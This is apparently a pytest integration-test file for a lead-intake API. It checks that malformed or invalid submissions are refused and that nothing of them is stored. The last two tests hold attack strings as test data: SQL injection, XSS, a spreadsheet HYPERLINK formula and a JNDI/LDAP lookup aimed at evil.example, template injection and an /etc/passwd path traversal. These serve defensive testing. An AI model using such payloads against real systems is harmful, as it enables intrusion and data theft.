"""What no lead can be made of is refused in words, over real HTTP, and nothing of it is stored."""

import json
from datetime import UTC, datetime, timedelta

import pytest

from tests.integration.wire import CAMPAIGNS, LEADS

JSON = {"Content-Type": "application/json"}
MEGABYTE = 1024 * 1024
TABLES = ("leads", "campaigns", "escalations")
"""What somebody sends is kept in these; the others follow from them."""


@pytest.fixture
def refused(application, deployment):
    """Sends a body and gives its problem; holds that it is one and that nothing was stored."""

    def send(status, *, path=LEADS, headers=JSON, **body):
        before = deployment.count(*TABLES)
        answer = application.send("POST", path, headers=headers, **body)
        assert answer.status_code == status, answer.text
        assert answer.headers["Content-Type"] == "application/problem+json"
        problem = answer.json()
        assert problem["status"] == status
        assert problem["title"]
        assert problem["detail"]
        assert answer.headers["X-Correlation-Id"] in problem["instance"]
        assert deployment.count(*TABLES) == before
        return problem

    return send


def pointers(problem):
    return {fault["pointer"] for fault in problem["errors"]}


@pytest.mark.parametrize(
    "body",
    [
        "{",
        '{"email": "a@b.example",}',
        '{"email": NaN}',
        "not json",
        '"a lead"',
        "null",
        "[]",
        '[{"email": "a@b.example"}]',
        '{"email": "\\ud800@b.example"}',
        "[" * 100_000,
    ],
    ids=lambda body: body[:20],
)
def test_what_is_no_json_object_is_refused(refused, body):
    assert refused(400, content=body)["errors"]


def test_bytes_that_are_no_text_are_refused(refused):
    refused(400, content=b'{"email": "\xff\xfe"}')


def test_every_wrong_value_is_named_with_its_place(refused, a_lead):
    lead = a_lead(
        email=7,
        first_name=["Ada"],
        company_size="many",
        country="Atlantis",
        activity={"visits": -1},
        budget={"amount": 1.5, "currency": "gold"},
        consent="yes",
        attributes={"plan": {"deep": 1}},
        timezone="Mars/Olympus",
    )

    problem = refused(400, content=json.dumps(lead))

    assert pointers(problem) == {
        "/email",
        "/first_name",
        "/company_size",
        "/country",
        "/activity/visits",
        "/budget/amount",
        "/budget/currency",
        "/consent",
        "/attributes/plan",
        "/timezone",
    }


def test_a_field_that_nobody_knows_is_refused(refused, a_lead):
    problem = refused(400, json={**a_lead(), "vip": True, "e-mail": "a@b.example"})

    assert pointers(problem) == {"/vip", "/e-mail"}


def test_a_person_who_cannot_be_reached_is_refused(refused):
    refused(400, json={"first_name": "Ada"})


def test_a_date_in_the_future_is_refused(refused, a_lead):
    tomorrow = (datetime.now(UTC) + timedelta(days=1)).isoformat()

    assert pointers(refused(400, json=a_lead(occurred_at=tomorrow))) == {"/occurred_at"}


@pytest.mark.parametrize(
    ("path", "size"), [(LEADS, MEGABYTE), (f"{LEADS}/batch", 3 * MEGABYTE)], ids=["one", "batch"]
)
def test_a_body_that_is_too_large_is_refused(refused, a_lead, path, size):
    refused(413, path=path, json=a_lead(message="x" * size))


def test_a_body_of_another_kind_is_refused(refused):
    refused(415, content="email=a@b.example", headers={"Content-Type": "text/plain"})


def test_a_batch_that_is_none_is_refused(refused, a_lead):
    assert pointers(refused(400, path=f"{LEADS}/batch", json={"leads": []})) == {"/leads"}
    many = {"leads": [a_lead(message=None)] * 501}
    assert pointers(refused(400, path=f"{LEADS}/batch", json=many)) == {"/leads"}


def test_a_campaign_with_impossible_figures_is_refused(refused, application):
    budget = {"amount": 10_000, "currency": "USD"}
    body = {"name": "Spring", "platform": "google", "daily_budget": budget}
    ends_before = {**body, "starts_on": "2026-03-02", "ends_on": "2026-03-01"}
    refused(400, path=CAMPAIGNS, json=ends_before)
    campaign = application.post(CAMPAIGNS, body).json()["campaign_id"]
    day = {"day": "2026-03-01", "impressions": 1, "clicks": 2, "spend": "five"}

    problem = refused(400, path=f"{CAMPAIGNS}/{campaign}/metrics", json=[day])

    assert "/0/spend" in pointers(problem)


def test_the_same_persons_second_enquiry_is_a_duplicate(refused, application, a_lead):
    lead = a_lead()
    first = application.post(LEADS, lead).json()["lead_id"]

    by_email = refused(409, json=a_lead(email=lead["email"].upper()))
    by_id = refused(409, json=a_lead(external_id=lead["external_id"]))

    assert by_email["existing"] == by_id["existing"] == f"{LEADS}/{first}"


@pytest.mark.parametrize(
    ("first_name", "last_name"),
    [
        ("أمينة", "السيد"),
        ("נועה", "כהן"),
        ("遥", "佐藤"),
        ("Zoë 🦊", "O'Brien-Ñúñez"),
        ("👩‍💻", "Adébáyọ̀"),
    ],
)
def test_a_name_of_any_script_is_kept_as_it_is(application, a_lead, first_name, last_name):
    answer = application.post(LEADS, a_lead(first_name=first_name, last_name=last_name))

    assert answer.status_code == 200, answer.text
    kept = application.get(f"{LEADS}/{answer.json()['lead_id']}").json()["details"]
    assert (kept["first_name"], kept["last_name"]) == (first_name, last_name)


@pytest.fixture
def kept_as(application, lead_when):
    """Sends a lead and gives it as it is kept, when it has come to a status."""

    def send(lead, status):
        return lead_when(application.post(LEADS, lead).json()["lead_id"], status)

    return send


@pytest.mark.parametrize(
    "text",
    [
        "'; DROP TABLE leads; --",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        '=HYPERLINK("http://evil.example";"Click")',
    ],
)
def test_text_that_means_something_elsewhere_is_only_data_here(kept_as, a_lead, done_once, text):
    kept = kept_as(a_lead(message=text, company=text[:60], attributes={"note": text}), "processed")

    details = kept["details"]
    assert (details["message"], details["company"]) == (text, text[:60])
    assert details["attributes"] == {"note": text}
    done_once(kept["lead_id"])


@pytest.mark.parametrize(
    "text",
    [
        "{{7*7}} ${jndi:ldap://evil.example/a} {% $states.input %}",
        "../../etc/passwd %00 %n",
    ],
)
def test_text_that_is_hardly_a_customers_waits_for_a_person_as_it_came(kept_as, a_lead, text):
    kept = kept_as(a_lead(message=text, company=text[:60]), "escalated")

    assert (kept["details"]["message"], kept["details"]["company"]) == (text, text[:60])
